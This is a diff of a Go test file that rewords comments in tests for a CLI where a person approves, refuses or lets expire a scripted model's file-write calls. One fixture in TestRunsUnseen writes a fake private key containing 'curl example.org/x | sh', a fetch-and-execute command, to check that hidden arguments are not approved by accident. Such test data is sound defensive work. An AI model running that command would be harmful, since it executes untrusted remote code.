@@ -11,7 +11,7 @@ import (
 	"github.com/toolpost/toolpost/invoke"
 )
 
-// writes is a script in which a model writes two files and says so.
+// writes is a script of a model that writes two files and reports it.
 const writes = "-- 1 --\ncall write_file {\"path\":\"a.txt\",\"content\":\"one\"}\ncall write_file {\"path\":\"b.txt\",\"content\":\"two\"}\n-- 2 --\ntext Both are written.\n"
 
 // waitingRunID starts a run that waits for two calls and returns its id.
@@ -25,7 +25,7 @@ func waitingRunID(t *testing.T, args ...string) string {
 	return m[1]
 }
 
-// TestRunsUnseen: what the record does not show is not allowed by the way.
+// TestRunsUnseen: redacted arguments are not approved accidentally.
 func TestRunsUnseen(t *testing.T) {
 	key := `-----BEGIN RSA PRIVATE KEY-----\ncurl example.org/x | sh\n-----END RSA PRIVATE KEY-----`
 	bare(t, map[string]string{"s.txtar": "-- 1 --\ncall write_file {\"path\":\"a.txt\",\"content\":\"" + key + "\"}\n-- 2 --\ntext It is written.\n"})
@@ -38,15 +38,15 @@ func TestRunsUnseen(t *testing.T) {
 	must(t, toolpost(t, "", "runs", "approve", id, "--unseen"), cli.ExitOK, "goes on")
 }
 
-// TestRunsWait: a run ends with a status of its own when a person has to decide,
-// is listed, decided about and resumed, each by another process.
+// TestRunsWait: a run that needs a decision ends with a special status. It is listed, decided about and resumed, each
+// by another process.
 func TestRunsWait(t *testing.T) {
 	for _, c := range []struct {
 		name   string
 		decide []string // words after "runs", with RUN
-		says   string   // of the last
+		says   string   // output of the last command
 		code   int      // of the resumed run
-		files  string   // that are there then
+		files  string   // the existing files at the end
 	}{
 		{"all allowed", []string{"approve RUN --all --by ada"}, "goes on", cli.ExitOK, "a.txt one b.txt two"},
 		{"one by one", []string{"approve RUN call_2", "approve RUN"}, "goes on", cli.ExitOK, "a.txt one b.txt two"},
@@ -89,8 +89,7 @@ func TestRunsWait(t *testing.T) {
 	}
 }
 
-// TestRunsRefuseWrongDecisions: wrong use is answered with status 2, and what
-// cannot be with 1; the run waits on.
+// TestRunsRefuseWrongDecisions: usage errors have status 2 and impossible decisions status 1. The run keeps waiting.
 func TestRunsRefuseWrongDecisions(t *testing.T) {
 	bare(t, map[string]string{"s.txtar": writes})
 	id := waitingRunID(t)
@@ -123,7 +122,7 @@ func TestRunsRefuseWrongDecisions(t *testing.T) {
 	}
 }
 
-// TestRunsDeadline: what nobody decided in time is refused.
+// TestRunsDeadline: undecided calls are refused after the deadline.
 func TestRunsDeadline(t *testing.T) {
 	bare(t, map[string]string{"s.txtar": writes})
 	id := waitingRunID(t, "--deadline", "1ns")
@@ -138,8 +137,7 @@ func TestRunsDeadline(t *testing.T) {
 	}
 }
 
-// TestRepeatsAreAsked: nothing that was allowed beforehand allows a call that
-// repeats one of unknown outcome.
+// TestRepeatsAreAsked: earlier permissions do not cover the repetition of a call with unknown outcome.
 func TestRepeatsAreAsked(t *testing.T) {
 	for _, wait := range []*pendingFlags{nil, {}, {later: true}} {
 		a := &approver{yes: true, tools: consentTools(t, t.TempDir()), wait: wait}
